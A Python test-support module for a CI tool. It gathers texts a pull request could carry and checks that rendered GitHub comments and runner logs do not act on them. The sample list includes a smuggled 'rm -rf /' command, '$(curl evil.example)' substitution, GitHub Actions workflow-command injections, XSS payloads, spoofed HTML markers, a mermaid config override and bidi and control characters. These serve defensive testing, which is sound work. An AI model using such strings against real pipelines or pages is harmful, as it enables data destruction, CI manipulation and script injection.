"""Texts that a pull request can bring, and what GitHub and its runner would make of them where they are not looked after."""

from __future__ import annotations

import html
import re

from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mlops_ci.core.diagnostics import replace_control_characters

TEXTS = [
    'delay"; rm -rf / #',
    "$(curl evil.example)",
    "`id`",
    "a|b|c",
    "one\ntwo\n\n# three",
    "one\r\n::set-output name=x::y",
    "%0A::set-output name=x::y",
    "::error file=x::y",
    "##[set-output name=x;]y",
    "a ##[error]b",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "https://evil.example/`x",
    "www.evil.example",
    "@everyone",
    "fixes #1 and owner/name#2, GH-3",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- mlops-ci: gate/gate -->",
    "--> <!-- mlops-ci: gate/gate -->",
    "`<!-- mlops-ci: gate/gate -->`",
    "</details>",
    "</summary></details><details open>",
    "```\n## fence",
    "~~~",
    '"]; click a "https://evil.example"',
    "%%{init: {'securityLevel': 'loose'}}%%",
    "a --> b; end",
    "---",
    "===",
    "- [x] done",
    "> [!NOTE]",
    "$x$",
    "$`x`$",
    "\u202egpj.exe",
    "a\u200bb\u2066c",
    "\x1b[31mred\x00",
    "\ud800",
    "a\u2028b\x85c",
    "\\",
    "x|\\",
    "_" * 5,
    "x" * 5000,
    "",
]
HARMLESS = ("", "===", "\\", "x" * 5000, "%0A::set-output name=x::y")  # on a page: the last one is for logs
_NODE = r'\w+\(?\["[\w ,.=+\u00b7-]*"\]\)?(:::\w+)?'  # nothing in a label that means something to mermaid
_CHART = re.compile(rf"flowchart LR|  {_NODE}( --> {_NODE})*|  classDef \w+ fill:#\w+,color:#fff")
ANY = st.one_of(
    st.sampled_from(TEXTS),
    st.text(max_size=60),
    st.text("ab1_*`~|\\[]()<>!&@#$%:./-+= \n\r\"'{};", max_size=40),
)
GITHUB = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_AFTERWARDS = re.compile(
    r"@\w|#\d|GH-\d|\w://|www\.\w|\$\S", re.IGNORECASE
)  # what GitHub makes something of, outside code
_COMMAND = re.compile(r"^\s*::|##\[", re.MULTILINE)  # what the runner takes for a command, in a line of a log


def structure(markdown: str) -> list[str]:
    """What a page is made of, in order: blocks, headings, rows, cells, HTML; without their texts, code and emphasis."""
    found: list[str] = []
    for token in GITHUB.parse(markdown):
        if token.type == "html_block":
            found += re.findall(r"<[^>]*>", re.sub(r"<code>.*?</code>", "", token.content))
        elif token.type == "inline":
            kinds = [child for child in token.children or [] if child.type not in ("text", "softbreak", "code_inline")]
            tags = [child.content if child.type == "html_inline" else child.type for child in kinds]
            found += [tag for tag in tags if tag not in ("<code>", "</code>", "text_special", "escape")]
        else:
            found.append(token.type + token.tag)
    return found


def outside_code(markdown: str) -> str:
    """The text that a reader sees, save what is in code; links that are ours, too."""
    rendered = GITHUB.render(markdown)
    without = re.sub(r"<(code|a)\b[^>]*>.*?</\1>", "", rendered, flags=re.DOTALL)
    return html.unescape(re.sub(r"<[^>]*>", " ", without))


def does_something(markdown: str) -> bool:
    """Tell whether GitHub would make links, mentions, pictures or formulas of a text, or the runner would obey it."""
    return bool(_AFTERWARDS.search(outside_code(markdown)) or _COMMAND.search(markdown))


def faults(markdown: str, wanted: list[str], text: str = "") -> set[str]:
    """What a text did to a page: to its structure (`wanted`), to tables, by acting, by a marker, unseen, or not shown as it is."""
    cells = [
        {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        for table in re.findall(r"(?:^\|.*\n)+", markdown, re.MULTILINE)
    ]
    flat = replace_control_characters(" ".join(text.split()))
    visible = " ".join(html.unescape(re.sub(r"<[^>]*>", "", GITHUB.render(_without_charts(markdown)))).split())
    found = {
        "structure": structure(markdown) != wanted,
        "cells": any(len(counts) > 1 for counts in cells),
        "acts": does_something(markdown),
        "marker": bool(re.search(r"<!|-->", _without_charts(markdown))),
        "unprintable": any(not char.isprintable() and char != "\n" for char in markdown),
        "chart": not all(_CHART.fullmatch(line) for line in _charts(markdown)),
        "not shown": len(flat) < 100 and flat not in visible,
    }
    return {name for name, there in found.items() if there}


def _charts(markdown: str) -> list[str]:
    """The lines of all charts."""
    return [line for chart in re.findall(r"```mermaid\n(.*?)```", markdown, re.DOTALL) for line in chart.splitlines()]


def _without_charts(markdown: str) -> str:
    return re.sub(r"```mermaid.*?```", "", markdown, flags=re.DOTALL)
